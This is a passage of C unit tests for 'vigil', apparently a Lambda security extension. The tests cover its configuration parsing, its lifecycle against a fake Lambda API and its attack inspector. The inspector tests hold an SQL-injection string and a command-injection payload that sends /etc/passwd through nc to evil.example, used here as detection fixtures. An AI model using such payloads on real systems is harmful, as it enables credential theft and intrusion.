/* The extension: its configuration table, the alert record, and the real
 * vigil process against a fake Lambda (Extensions, Telemetry and Runtime
 * APIs): sockets bound before register, the name it registers under, the
 * subscription, the proxy in between, SHUTDOWN, a bad configuration. */
#include <arpa/inet.h>
#include <check.h>
#include <cjson/cJSON.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "harness.h"
#include "config.h"
#include "fake_upstream.h"
#include "inspector.h"
#include "px_client.h"
#include "posture.h"
#include "rhythm.h"
#include "tel_pipeline.h"
#include "vg_buf.h"
#include "vg_time.h"

static const char *const all_vars[] = {
    "VIGIL_MODE",
    "VIGIL_POLICY",
    "VIGIL_PARANOIA",
    "VIGIL_PROXY_PORT",
    "VIGIL_TELEMETRY_PORT",
    "VIGIL_COLLECTOR_URL",
    "VIGIL_COLLECTOR_TOKEN",
    "VIGIL_COLLECTOR_TOKEN_SECRET",
    "VIGIL_COLLECTOR_TOKEN_PARAM",
    "VIGIL_AWS_ENDPOINT_URL",
    "VIGIL_FAIL",
    "VIGIL_LOG_LEVEL",
    "VIGIL_TELEMETRY_MAX_ITEMS",
    "VIGIL_TELEMETRY_MAX_BYTES",
    "VIGIL_TELEMETRY_TIMEOUT_MS",
    "VIGIL_FLUSH_INVOKE_MS",
    "VIGIL_EXPORT_QUEUE_RECORDS",
    "VIGIL_EXPORT_QUEUE_BYTES",
    "VIGIL_EXPORT_BATCH_RECORDS",
    "VIGIL_EXPORT_BATCH_BYTES",
    "VIGIL_EXPORT_GZIP",
    "VIGIL_EXPORT_TIMEOUT_MS",
    "VIGIL_TEL_MEMORY_SHARE",
    "VIGIL_TEL_DURATION_WARMUP",
    "VIGIL_TEL_DURATION_WINDOW",
    "VIGIL_TEL_DURATION_K",
    "VIGIL_TEL_DURATION_MIN_MS",
    "VIGIL_TEL_SURGE_BUCKET_S",
    "VIGIL_TEL_SURGE_WINDOW",
    "VIGIL_TEL_SURGE_WARMUP",
    "VIGIL_TEL_SURGE_RATIO",
    "VIGIL_TEL_SURGE_MIN",
    "VIGIL_TEL_REQUESTS_MAX",
    "VIGIL_TEL_ALERT_WINDOW_S",
    "VIGIL_TEL_SECRETS",
    "VIGIL_TEL_BODY_MAX",
};

static void clear_env(void)
{
	for (size_t i = 0; i < sizeof(all_vars) / sizeof(all_vars[0]); i++)
		unsetenv(all_vars[i]);
}

/* --- the configuration table ------------------------------------------- */

START_TEST(config_defaults)
{
	struct ext_config c;
	char err[256] = "";
	clear_env();
	ck_assert_int_eq(ext_config_load(&c, err, sizeof(err)), 0);
	ck_assert_int_eq(c.mode, EXT_MODE_MONITOR);
	ck_assert_ptr_null(c.policy);
	ck_assert_int_eq(c.paranoia, 1);
	ck_assert_uint_eq(c.proxy_port, 9009);
	ck_assert_uint_eq(c.telemetry_port, 4243);
	ck_assert_ptr_null(c.collector_url);
	ck_assert_int_eq(c.fail, EXT_FAIL_OPEN);
	ck_assert_int_eq(c.log_level, VG_LOG_INFO);
	ck_assert_int_eq(c.telemetry_max_items, 1000);
	ck_assert_int_eq(c.telemetry_max_bytes, 262144);
	ck_assert_int_eq(c.telemetry_timeout_ms, 25);
	/* The table's defaults are the telemetry library's own. */
	struct tel_config t;
	tel_config_defaults(&t);
	ck_assert(c.tel_memory_share == t.memory_share);
	ck_assert_int_eq(c.tel_duration_warmup, t.duration_warmup);
	ck_assert_int_eq(c.tel_duration_window, t.duration_window);
	ck_assert(c.tel_duration_k == t.duration_k);
	ck_assert(c.tel_duration_min_ms == t.duration_min_ms);
	ck_assert_int_eq(c.tel_surge_bucket_s, t.surge_bucket_s);
	ck_assert_int_eq(c.tel_surge_window, t.surge_window);
	ck_assert_int_eq(c.tel_surge_warmup, t.surge_warmup);
	ck_assert(c.tel_surge_ratio == t.surge_ratio);
	ck_assert_int_eq(c.tel_surge_min, t.surge_min);
	ck_assert_int_eq(c.tel_requests_max, t.requests_max);
	ck_assert_int_eq(c.tel_alert_window_s, t.alert_window_s);
	ck_assert_int_eq(c.tel_secrets, t.scan_secrets);
	ck_assert_int_eq(c.tel_body_max, t.body_max);
}
END_TEST

START_TEST(config_accepts_valid_values)
{
	struct ext_config c;
	char err[256] = "";
	clear_env();
	setenv("VIGIL_MODE", "BLOCK", 1);
	setenv("VIGIL_FAIL", "closed", 1);
	setenv("VIGIL_PROXY_PORT", "65535", 1);
	setenv("VIGIL_TELEMETRY_PORT", "1", 1);
	setenv("VIGIL_COLLECTOR_URL", "https://c.example:4318/v1/logs", 1);
	setenv("VIGIL_LOG_LEVEL", "debug", 1);
	setenv("VIGIL_TELEMETRY_TIMEOUT_MS", "30000", 1);
	setenv("VIGIL_POLICY", "/opt/a.yaml:/opt/rules", 1);
	setenv("VIGIL_EXPORT_GZIP", "off", 1);
	setenv("VIGIL_TEL_MEMORY_SHARE", "0.75", 1);
	setenv("VIGIL_TEL_SURGE_WARMUP", "30", 1);
	setenv("VIGIL_PARANOIA", "3", 1);
	ck_assert_int_eq(ext_config_load(&c, err, sizeof(err)), 0);
	ck_assert_int_eq(c.paranoia, 3);
	ck_assert_int_eq(c.export_gzip, 0);
	ck_assert(c.tel_memory_share == 0.75);
	ck_assert_int_eq(c.tel_surge_warmup, 30);
	ck_assert_int_eq(c.mode, EXT_MODE_BLOCK);
	ck_assert_int_eq(c.fail, EXT_FAIL_CLOSED);
	ck_assert_uint_eq(c.proxy_port, 65535);
	ck_assert_uint_eq(c.telemetry_port, 1);
	ck_assert_str_eq(c.collector_url, "https://c.example:4318/v1/logs");
	ck_assert_int_eq(c.log_level, VG_LOG_DEBUG);
	ck_assert_int_eq(c.telemetry_timeout_ms, 30000);
	ck_assert_str_eq(c.policy, "/opt/a.yaml:/opt/rules");
	clear_env();
}
END_TEST

static const struct {
	const char *name, *value, *expect;
} bad[] = {
    {"VIGIL_MODE", "blok", "VIGIL_MODE=\"blok\" is not one of monitor|block"},
    {"VIGIL_FAIL", "maybe", "VIGIL_FAIL=\"maybe\" is not one of open|closed"},
    {"VIGIL_LOG_LEVEL", "loud", "VIGIL_LOG_LEVEL"},
    {"VIGIL_PROXY_PORT", "0", "VIGIL_PROXY_PORT=\"0\" is not a whole number in 1..65535"},
    {"VIGIL_PARANOIA", "5", "VIGIL_PARANOIA=\"5\" is not a whole number in 1..4"},
    {"VIGIL_PARANOIA", "0", "1..4"},
    {"VIGIL_PROXY_PORT", "65536", "VIGIL_PROXY_PORT"},
    {"VIGIL_PROXY_PORT", "90 09", "VIGIL_PROXY_PORT"},
    {"VIGIL_TELEMETRY_PORT", "-4", "VIGIL_TELEMETRY_PORT"},
    {"VIGIL_TELEMETRY_PORT", "9001", "reserved"},
    {"VIGIL_TELEMETRY_PORT", "9009", "both 9009"},
    {"VIGIL_COLLECTOR_URL", "ftp://u:pw@x",
     "VIGIL_COLLECTOR_URL is not an http:// or https:// URL"},
    {"VIGIL_TELEMETRY_MAX_ITEMS", "999", "1000..10000"},
    {"VIGIL_TELEMETRY_MAX_BYTES", "2000000", "262144..1048576"},
    {"VIGIL_TELEMETRY_TIMEOUT_MS", "24", "25..30000"},
    {"VIGIL_FLUSH_INVOKE_MS", "5001", "0..5000"},
    {"VIGIL_EXPORT_GZIP", "maybe", "off|on"},
    {"VIGIL_TEL_MEMORY_SHARE", "1.5", "0.5..1"},
    {"VIGIL_TEL_MEMORY_SHARE", "0.9x", "0.5..1"},
    {"VIGIL_TEL_DURATION_K", "nan", "2..100"},
    {"VIGIL_TEL_DURATION_WARMUP", "500", "exceeds VIGIL_TEL_DURATION_WINDOW=100"},
    {"VIGIL_TEL_SURGE_WARMUP", "31", "exceeds VIGIL_TEL_SURGE_WINDOW=30"},
};

START_TEST(config_rejects_invalid_values)
{
	struct ext_config c;
	char err[256] = "";
	clear_env();
	setenv(bad[_i].name, bad[_i].value, 1);
	ck_assert_int_eq(ext_config_load(&c, err, sizeof(err)), -EINVAL);
	ck_assert_ptr_null(strstr(err, "pw@")); /* credentials are never echoed */
	ck_assert_msg(strstr(err, bad[_i].expect), "message \"%s\" lacks \"%s\"", err,
	              bad[_i].expect);
	clear_env();
}
END_TEST

START_TEST(config_markdown_lists_every_variable)
{
	char *out = NULL;
	size_t n = 0;
	FILE *f = open_memstream(&out, &n);
	ext_config_markdown(f);
	fclose(f);
	ck_assert_int_eq(strncmp(out, "| variable | type | default | allowed | meaning |\n", 50),
	                 0);
	for (size_t i = 0; i < sizeof(all_vars) / sizeof(all_vars[0]); i++) {
		char cell[64];
		snprintf(cell, sizeof(cell), "| `%s` |", all_vars[i]);
		ck_assert_msg(strstr(out, cell), "%s missing", all_vars[i]);
	}
	ck_assert_ptr_nonnull(strstr(out, "| `VIGIL_PROXY_PORT` | port | `9009` | 1..65535 |"));
	free(out);
}
END_TEST

/* Every README that carries the configuration table carries exactly the
 * table the code generates. */
START_TEST(readme_table_matches_the_code)
{
	static const char *const readmes[] = {"README.md", "layer/README.md"};
	const char *root = getenv("VIGIL_SOURCE_ROOT");
	char *table = NULL;
	size_t tn = 0;
	FILE *f = open_memstream(&table, &tn);
	unsigned checked = 0;
	ext_config_markdown(f);
	fclose(f);
	ck_assert_ptr_nonnull(root);
	for (size_t i = 0; i < 2; i++) {
		char path[4096];
		snprintf(path, sizeof(path), "%s/%s", root, readmes[i]);
		FILE *r = fopen(path, "r");
		if (!r)
			continue;
		struct vg_buf b = VG_BUF_INIT(1u << 20);
		char buf[4096];
		size_t got;
		while ((got = fread(buf, 1, sizeof(buf), r)) > 0)
			vg_buf_append(&b, buf, got);
		fclose(r);
		const char *start = b.data ? strstr(b.data, "| variable | type | default |") : NULL;
		if (start) {
			ck_assert_msg(!strncmp(start, table, tn),
			              "%s: the configuration table differs from `vigil config "
			              "--markdown`",
			              readmes[i]);
			checked++;
		}
		vg_buf_fini(&b);
	}
	ck_assert_uint_ge(checked, 1);
	free(table);
}
END_TEST

/* --- the alert record ----------------------------------------------------- */

/* --- the vigil process against a fake Lambda ------------------------------ */

static struct fake_up up;

static const char *vigil_path(void)
{
	static char p[4096];
	snprintf(p, sizeof(p), "%s/extension/vigil", getenv("VIGIL_BUILD_ROOT"));
	return p;
}

struct proc {
	pid_t pid;
	char out[64], err[64]; /* files holding stdout and stderr */
};

/* Starts vigil as Lambda does: argv[0] is the file's path, no arguments. */
static void spawn2(struct proc *p, const char *argv0, const char *const *env, const char *arg,
                   const char *arg2)
{
	strcpy(p->out, "/tmp/vigil-test-out-XXXXXX");
	strcpy(p->err, "/tmp/vigil-test-err-XXXXXX");
	int fo = mkstemp(p->out), fe = mkstemp(p->err);
	p->pid = fork();
	ck_assert_int_ge(p->pid, 0);
	if (p->pid == 0) {
		dup2(fo, 1);
		dup2(fe, 2);
		char *argv[] = {(char *)argv0, (char *)arg, (char *)arg2, NULL};
		execve(vigil_path(), argv, (char **)env);
		_exit(127);
	}
	close(fo);
	close(fe);
}

static void spawn(struct proc *p, const char *argv0, const char *const *env, const char *arg)
{
	spawn2(p, argv0, env, arg, NULL);
}

/* Exit status, or -1 when it has not exited within timeout_ms (then it is
 * killed). */
static int reap(struct proc *p, unsigned timeout_ms)
{
	uint64_t end = vg_mono_ns() + (uint64_t)timeout_ms * 1000000u;
	int st;
	while (vg_mono_ns() < end) {
		if (waitpid(p->pid, &st, WNOHANG) == p->pid)
			return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
		vg_sleep_ms(5);
	}
	kill(p->pid, SIGKILL);
	waitpid(p->pid, &st, 0);
	return -1;
}

static char *slurp(const char *path)
{
	struct vg_buf b = VG_BUF_INIT(1u << 20);
	char buf[4096];
	size_t n;
	FILE *f = fopen(path, "r");
	vg_buf_puts(&b, "");
	while (f && (n = fread(buf, 1, sizeof(buf), f)) > 0)
		vg_buf_append(&b, buf, n);
	if (f)
		fclose(f);
	unlink(path);
	return vg_buf_steal(&b, &n);
}

static char env_api[64], env_pp[64], env_tp[64];
static uint16_t proxy_port, tel_port;

static void proc_setup(void)
{
	memset(&up, 0, sizeof(up));
	ck_assert_int_eq(fake_up_start(&up), 0);
	proxy_port = th_free_port();
	do
		tel_port = th_free_port();
	while (tel_port == proxy_port);
	up.probe_proxy_port = proxy_port;
	up.probe_telemetry_port = tel_port;
	snprintf(env_api, sizeof(env_api), "AWS_LAMBDA_RUNTIME_API=%s", up.hostport);
	snprintf(env_pp, sizeof(env_pp), "VIGIL_PROXY_PORT=%u", proxy_port);
	snprintf(env_tp, sizeof(env_tp), "VIGIL_TELEMETRY_PORT=%u", tel_port);
}

static void proc_teardown(void)
{
	fake_up_stop(&up);
}

START_TEST(lifecycle_register_subscribe_proxy_shutdown)
{
	const char *env[] = {env_api, env_pp, env_tp, "VIGIL_LOG_LEVEL=debug", NULL};
	struct proc p;
	spawn(&p, "/opt/extensions/my-ext", env, NULL);
	ck_assert(fake_up_wait_ext_next(&up, 1, 20000));
	/* Sockets bound before register; the name is the file's basename. */
	ck_assert(up.proxy_ready_at_register);
	ck_assert(up.telemetry_bound_at_register);
	ck_assert_str_eq(up.ext_name, "my-ext");
	ck_assert_str_eq(up.ext_events, "{\"events\":[\"INVOKE\",\"SHUTDOWN\"]}");
	/* Subscribed before the first event/next. */
	ck_assert_uint_eq(up.n_subscribe, 1);
	cJSON *s = cJSON_Parse(up.subscription);
	ck_assert_ptr_nonnull(s);
	ck_assert_str_eq(cJSON_GetObjectItem(s, "schemaVersion")->valuestring, "2022-12-13");
	ck_assert_int_eq(cJSON_GetArraySize(cJSON_GetObjectItem(s, "types")), 3);
	cJSON *buf = cJSON_GetObjectItem(s, "buffering");
	ck_assert_int_eq(cJSON_GetObjectItem(buf, "maxItems")->valueint, 1000);
	ck_assert_int_eq(cJSON_GetObjectItem(buf, "maxBytes")->valueint, 262144);
	ck_assert_int_eq(cJSON_GetObjectItem(buf, "timeoutMs")->valueint, 25);
	char uri[96];
	snprintf(uri, sizeof(uri), "http://sandbox.localdomain:%u/telemetry", tel_port);
	ck_assert_str_eq(
	    cJSON_GetObjectItem(cJSON_GetObjectItem(s, "destination"), "URI")->valuestring, uri);
	cJSON_Delete(s);

	/* An invocation through the proxy of the running vigil. */
	char hp[32];
	struct px_pool pool;
	struct px_resp r;
	snprintf(hp, sizeof(hp), "127.0.0.1:%u", proxy_port);
	px_pool_init(&pool, hp);
	px_resp_init(&r);
	ck_assert_int_eq(px_request(&pool, "GET", "/2018-06-01/runtime/invocation/next", NULL, NULL,
	                            0, &r, 1 << 20, 10000),
	                 0);
	ck_assert_int_eq(r.status, 200);
	ck_assert_str_eq(px_resp_header(&r, "Lambda-Runtime-Aws-Request-Id"), "req-1");
	ck_assert_int_eq(px_request(&pool, "POST", "/2018-06-01/runtime/invocation/req-1/response",
	                            NULL, "done", 4, &r, 1 << 20, 10000),
	                 0);
	ck_assert_int_eq(r.status, 202);
	ck_assert_str_eq(up.body.data, "done");
	px_resp_fini(&r);
	px_pool_fini(&pool);

	/* SHUTDOWN: exit 0 well inside the deadline. */
	uint64_t t = vg_mono_ns();
	fake_up_shutdown(&up, 2000);
	ck_assert_int_eq(reap(&p, 10000), 0);
	ck_assert_uint_lt(vg_mono_ns() - t, 2000000000ull);
	free(slurp(p.out));
	char *err = slurp(p.err);
	ck_assert_ptr_nonnull(strstr(err, "registered as my-ext"));
	free(err);
}
END_TEST

/* The real vigil between a runtime and an upstream that fails: a 500 comes
 * back as it is, a hanging /next is never cut by the proxy, and the proxy
 * and the telemetry listener keep answering meanwhile. */
START_TEST(upstream_500_and_hang_through_vigil)
{
	const char *env[] = {env_api, env_pp, env_tp, NULL};
	struct proc p;
	char hp[32], tp[32];
	struct px_pool pool, tel;
	struct px_resp r;

	up.post_status = 500;
	up.post_body = "{\"errorMessage\":\"upstream broke\",\"errorType\":\"ServiceException\"}";
	up.next_hang = true;
	spawn(&p, "/opt/extensions/vigil", env, NULL);
	ck_assert(fake_up_wait_ext_next(&up, 1, 20000));
	snprintf(hp, sizeof(hp), "127.0.0.1:%u", proxy_port);
	snprintf(tp, sizeof(tp), "127.0.0.1:%u", tel_port);
	px_pool_init(&pool, hp);
	px_pool_init(&tel, tp);
	px_resp_init(&r);
	ck_assert_int_eq(px_request(&pool, "POST", "/2018-06-01/runtime/invocation/x/response",
	                            NULL, "r", 1, &r, 1 << 20, 10000),
	                 0);
	ck_assert_int_eq(r.status, 500);
	ck_assert_str_eq(r.body.data, up.post_body);
	ck_assert_int_eq(px_request(&pool, "GET", "/2018-06-01/runtime/invocation/next", NULL, NULL,
	                            0, &r, 1 << 20, 1500),
	                 -ETIMEDOUT);
	ck_assert_int_eq(px_request(&pool, "GET", "/vigil/ready", NULL, NULL, 0, &r, 4096, 10000),
	                 0);
	ck_assert_int_eq(r.status, 200);
	ck_assert_int_eq(px_request(&tel, "POST", "/telemetry",
	                            "Content-Type: application/json\r\n", "[]", 2, &r, 4096, 10000),
	                 0);
	ck_assert_int_eq(r.status, 200);
	px_resp_fini(&r);
	px_pool_fini(&pool);
	px_pool_fini(&tel);
	fake_up_shutdown(&up, 2000);
	ck_assert_int_eq(reap(&p, 10000), 0);
	free(slurp(p.out));
	free(slurp(p.err));
}
END_TEST

START_TEST(invalid_configuration_reported_through_init_error)
{
	const char *env[] = {env_api, env_pp, env_tp, "VIGIL_MODE=strict", NULL};
	struct proc p;
	spawn(&p, "/opt/extensions/vigil", env, NULL);
	ck_assert_int_eq(reap(&p, 20000), 1);
	ck_assert_str_eq(up.ext_name, "vigil");
	ck_assert_str_eq(up.init_error_type, "Extension.ConfigInvalid");
	cJSON *j = cJSON_Parse(up.init_error_body);
	ck_assert_ptr_nonnull(j);
	ck_assert_str_eq(cJSON_GetObjectItem(j, "errorType")->valuestring,
	                 "Extension.ConfigInvalid");
	ck_assert_str_eq(cJSON_GetObjectItem(j, "errorMessage")->valuestring,
	                 "VIGIL_MODE=\"strict\" is not one of monitor|block");
	cJSON_Delete(j);
	ck_assert_uint_eq(up.n_ext_next, 0);
	ck_assert(!up.proxy_ready_at_register);
	free(slurp(p.out));
	free(slurp(p.err));
}
END_TEST

START_TEST(telemetry_not_supported_or_refused_is_not_fatal)
{
	static const unsigned codes[] = {202, 400};
	up.telemetry_status = codes[_i];
	const char *env[] = {env_api, env_pp, env_tp, NULL};
	struct proc p;
	spawn(&p, "/opt/extensions/vigil", env, NULL);
	ck_assert(fake_up_wait_ext_next(&up, 1, 20000));
	fake_up_shutdown(&up, 2000);
	ck_assert_int_eq(reap(&p, 10000), 0);
	free(slurp(p.out));
	char *err = slurp(p.err);
	ck_assert_ptr_nonnull(strstr(err, codes[_i] == 202 ? "not supported" : "refused"));
	free(err);
}
END_TEST

START_TEST(managed_instances_subscribe_with_the_newest_schema)
{
	const char *env[] = {env_api, env_pp, env_tp,
	                     "AWS_LAMBDA_INITIALIZATION_TYPE=lambda-managed-instances", NULL};
	struct proc p;
	spawn(&p, "/opt/extensions/vigil", env, NULL);
	ck_assert(fake_up_wait_ext_next(&up, 1, 20000));
	ck_assert_ptr_nonnull(strstr(up.subscription, "\"schemaVersion\":\"2025-01-29\""));
	fake_up_shutdown(&up, 2000);
	ck_assert_int_eq(reap(&p, 10000), 0);
	free(slurp(p.out));
	free(slurp(p.err));
}
END_TEST

START_TEST(busy_proxy_port_bypasses_but_never_breaks)
{
	/* Someone holds the proxy port: vigil still registers and runs, and
	 * says the proxy is bypassed. */
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(proxy_port)};
	inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
	ck_assert_int_eq(bind(s, (struct sockaddr *)&a, sizeof(a)), 0);
	ck_assert_int_eq(listen(s, 1), 0);
	up.probe_proxy_port = 0;
	const char *env[] = {env_api, env_pp, env_tp, NULL};
	struct proc p;
	spawn(&p, "/opt/extensions/vigil", env, NULL);
	ck_assert(fake_up_wait_ext_next(&up, 1, 20000));
	fake_up_shutdown(&up, 2000);
	ck_assert_int_eq(reap(&p, 10000), 0);
	close(s);
	char *out = slurp(p.out);
	ck_assert_ptr_nonnull(strstr(out, "\"vigil.category\":\"proxy_bypassed\""));
	free(out);
	free(slurp(p.err));
}
END_TEST

START_TEST(probe_subcommand)
{
	const char *env[] = {env_api, env_pp, env_tp, NULL};
	struct proc d, p;
	spawn(&d, "/opt/extensions/vigil", env, NULL);
	ck_assert(fake_up_wait_ext_next(&up, 1, 20000));
	spawn(&p, "vigil", env, "probe");
	ck_assert_int_eq(reap(&p, 10000), 0);
	free(slurp(p.out));
	free(slurp(p.err));
	fake_up_shutdown(&up, 2000);
	ck_assert_int_eq(reap(&d, 10000), 0);
	free(slurp(d.out));
	free(slurp(d.err));
	/* Nobody listens now. */
	spawn(&p, "vigil", env, "probe");
	ck_assert_int_eq(reap(&p, 10000), 1);
	char *out = slurp(p.out), *err = slurp(p.err);
	ck_assert_ptr_nonnull(strstr(err, "did not answer"));
	ck_assert_ptr_nonnull(strstr(out, "\"vigil.category\":\"proxy_bypassed\""));
	free(out);
	free(err);
}
END_TEST

START_TEST(offline_subcommands)
{
	const char *env[] = {NULL};
	struct proc p;
	spawn(&p, "vigil", env, "version");
	ck_assert_int_eq(reap(&p, 10000), 0);
	char *out = slurp(p.out);
	ck_assert_int_eq(strncmp(out, "vigil ", 6), 0);
	free(out);
	free(slurp(p.err));
	spawn(&p, "vigil", env, "frobnicate");
	ck_assert_int_eq(reap(&p, 10000), 2);
	free(slurp(p.out));
	char *err = slurp(p.err);
	ck_assert_ptr_nonnull(strstr(err, "unknown command"));
	free(err);
	/* inspect is the policies engine's command, reached through vigil. */
	char ev[] = "/tmp/vigil-test-ev-XXXXXX";
	int fd = mkstemp(ev);
	ck_assert_int_eq(write(fd, "{\"a\":1}", 7), 7);
	close(fd);
	spawn2(&p, "vigil", env, "inspect", ev);
	ck_assert_int_eq(reap(&p, 10000), 0);
	char *o = slurp(p.out);
	ck_assert_ptr_nonnull(strstr(o, "\"verdict\":\"pass\""));
	free(o);
	free(slurp(p.err));
	unlink(ev);
	/* Without AWS_LAMBDA_RUNTIME_API there is nothing to register with. */
	spawn(&p, "/opt/extensions/vigil", env, NULL);
	ck_assert_int_eq(reap(&p, 10000), 1);
	free(slurp(p.out));
	free(slurp(p.err));
}
END_TEST

/* --- the inspector ------------------------------------------------------- */

struct caught {
	unsigned n;
	char category[32], action[16], source[32], path[128], rid[64], budget[8];
	char flagged_rid[64], flagged_id[40];
};

static void catch_alert(void *ctx, const struct tel_alert *a)
{
	struct caught *c = ctx;
	if (c->n++)
		return; /* keep the first */
	snprintf(c->category, sizeof(c->category), "%s", a->category);
	snprintf(c->action, sizeof(c->action), "%s", a->action);
	snprintf(c->source, sizeof(c->source), "%s", a->source ? a->source : "");
	snprintf(c->path, sizeof(c->path), "%s", a->path ? a->path : "");
	snprintf(c->rid, sizeof(c->rid), "%s", a->request_id);
	for (unsigned i = 0; i < a->n_attrs; i++)
		if (!strcmp(a->attrs[i].key, "vigil.budget_exhausted"))
			snprintf(c->budget, sizeof(c->budget), "%s", a->attrs[i].value);
	ck_assert_str_eq(a->kind, "inspection");
}

static void catch_flag(void *ctx, const char *rid, const char *id, const char *severity)
{
	ck_assert_str_eq(severity, "ERROR"); /* the test's attacks are high or critical */
	struct caught *c = ctx;
	snprintf(c->flagged_rid, sizeof(c->flagged_rid), "%s", rid);
	snprintf(c->flagged_id, sizeof(c->flagged_id), "%s", id);
}

static int run_hook(struct ext_inspector *x, const char *event, const char *rid, int blocked,
                    struct px_verdict *v, char *doc, size_t docn, char *etype, size_t etn)
{
	const struct px_inspector *h = ext_inspector_hook(x);
	struct px_event ev = {.request_id = rid, .body = event, .len = strlen(event)};
	memset(v, 0, sizeof(*v));
	int r = h->inspect(h->ctx, &ev, v);
	if (r == 0) {
		snprintf(doc, docn, "%.*s", (int)v->block_len, v->block_body ? v->block_body : "");
		snprintf(etype, etn, "%s", v->block_error_type ? v->block_error_type : "");
		h->done(h->ctx, &ev, v, blocked);
	}
	return r;
}

START_TEST(inspector_monitor_and_block)
{
	static const char sqli[] =
	    "{\"resource\":\"/items\",\"path\":\"/items\",\"httpMethod\":\"GET\",\"headers\":{},"
	    "\"queryStringParameters\":{\"id\":\"1' OR '1'='1' -- \"},\"requestContext\":"
	    "{\"stage\":\"prod\"},\"body\":null,\"isBase64Encoded\":false}";
	static const char sqs[] =
	    "{\"Records\":[{\"messageId\":\"m1\",\"eventSource\":\"aws:sqs\",\"body\":"
	    "\"{\\\"q\\\":\\\"x; cat /etc/passwd | nc evil.example 4444\\\"}\"}]}";
	struct caught c = {0};
	struct tel_sink sink = {catch_alert, &c};
	struct ext_inspector_opts o = {.sink = &sink, .flagged = catch_flag, .flagged_ctx = &c};
	struct ext_inspector *x;
	struct px_verdict v;
	char err[256], doc[4096], et[64];

	/* Monitor: an alert per finding, action alert, nothing to refuse. */
	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), 0);
	ck_assert_int_eq(run_hook(x, sqli, "r-1", 0, &v, doc, sizeof(doc), et, sizeof(et)), 0);
	ck_assert_int_eq(v.action, PX_ALERT);
	ck_assert_uint_ge(c.n, 1);
	ck_assert_str_eq(c.category, "sqli");
	ck_assert_str_eq(c.action, "alert");
	ck_assert_str_eq(c.source, "apigw-v1");
	ck_assert_str_eq(c.rid, "r-1");
	ck_assert_ptr_nonnull(strstr(c.path, "id"));
	ck_assert_str_eq(c.budget, "");
	ck_assert_str_eq(c.flagged_rid, "r-1");
	ck_assert_uint_eq(strlen(c.flagged_id), 32);
	/* A benign event: nothing. */
	memset(&c, 0, sizeof(c));
	ck_assert_int_eq(run_hook(x, "{\"name\":\"O'Brien\",\"note\":\"select a union rep\"}",
	                          "r-2", 0, &v, doc, sizeof(doc), et, sizeof(et)),
	                 0);
	ck_assert_int_eq(v.action, PX_PASS);
	ck_assert_uint_eq(c.n, 0);
	ck_assert_str_eq(c.flagged_rid, "");
	ext_inspector_free(x);

	/* Block: the source's refusal comes with the verdict. */
	o.block = true;
	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), 0);
	memset(&c, 0, sizeof(c));
	ck_assert_int_eq(run_hook(x, sqli, "r-3", 1, &v, doc, sizeof(doc), et, sizeof(et)), 0);
	ck_assert_int_eq(v.action, PX_BLOCK);
	ck_assert_str_eq(et, "");
	ck_assert_ptr_nonnull(strstr(doc, "\"statusCode\":403"));
	ck_assert_str_eq(c.action, "block");
	memset(&c, 0, sizeof(c));
	ck_assert_int_eq(run_hook(x, sqs, "r-4", 1, &v, doc, sizeof(doc), et, sizeof(et)), 0);
	ck_assert_int_eq(v.action, PX_BLOCK);
	ck_assert_str_eq(et, "Vigil.Blocked");
	ck_assert_ptr_nonnull(strstr(doc, "\"errorType\":\"Vigil.Blocked\""));
	ck_assert_ptr_null(strstr(doc, "passwd")); /* never the payload */
	ck_assert_str_eq(c.source, "sqs");
	ext_inspector_free(x);
}
END_TEST

/* VIGIL_PARANOIA: two bare command names (cmdi's level-2 signals) pass at
 * level 1 and alert at level 2; a policy file's level wins over it. */
START_TEST(inspector_paranoia_level)
{
	static const char ev[] = "{\"a\":\"base64\",\"b\":\"gzip\"}";
	struct caught c = {0};
	struct tel_sink sink = {catch_alert, &c};
	struct ext_inspector_opts o = {.sink = &sink, .flagged = catch_flag, .flagged_ctx = &c};
	struct ext_inspector *x;
	struct px_verdict v;
	char err[256], doc[4096], et[64];

	for (unsigned level = 1; level <= 2; level++) {
		o.paranoia = level;
		memset(&c, 0, sizeof(c));
		ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), 0);
		ck_assert_int_eq(run_hook(x, ev, "r-1", 0, &v, doc, sizeof(doc), et, sizeof(et)),
		                 0);
		ck_assert_int_eq(v.action, (level == 1 ? PX_PASS : PX_ALERT));
		ck_assert_uint_eq(c.n, (level == 1 ? 0 : 2));
		ext_inspector_free(x);
	}
	char dir[512], path[600];
	ck_assert_int_eq(th_tempdir(dir, sizeof(dir), "pl"), 0);
	snprintf(path, sizeof(path), "%s/one.json", dir);
	FILE *f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	fputs("{\"paranoia\": 1}", f);
	fclose(f);
	o.policy = path;
	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), 0);
	ck_assert_int_eq(run_hook(x, ev, "r-2", 0, &v, doc, sizeof(doc), et, sizeof(et)), 0);
	ck_assert_int_eq(v.action, PX_PASS);
	ext_inspector_free(x);
	th_rmtree(dir);
}
END_TEST

START_TEST(inspector_rejects_invalid_policy_with_file_and_line)
{
	char dir[512], file[600], list[1300], err[512];
	struct ext_inspector *x = NULL;
	struct ext_inspector_opts o = {0};
	ck_assert_int_eq(th_tempdir(dir, sizeof(dir), "pol"), 0);
	snprintf(file, sizeof(file), "%s/bad.json", dir);
	FILE *f = fopen(file, "w");
	ck_assert_ptr_nonnull(f);
	fputs("{\n\"rules\": [\n{\"id\": }\n", f);
	fclose(f);
	/* A folder, an empty segment, then the bad file. */
	snprintf(list, sizeof(list), "%s::%s", dir, file);
	o.policy = list;
	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), -EINVAL);
	ck_assert_ptr_null(x);
	ck_assert_msg(!strncmp(err, file, strlen(file)) && err[strlen(file)] == ':', "%s", err);
	/* Too many paths. */
	char many[4096] = "";
	for (int i = 0; i < 40; i++)
		strcat(many, "/nonexistent:");
	o.policy = many;
	ck_assert_int_eq(ext_inspector_new(&o, &x, err, sizeof(err)), -E2BIG);
	ck_assert_ptr_nonnull(strstr(err, "VIGIL_POLICY"));
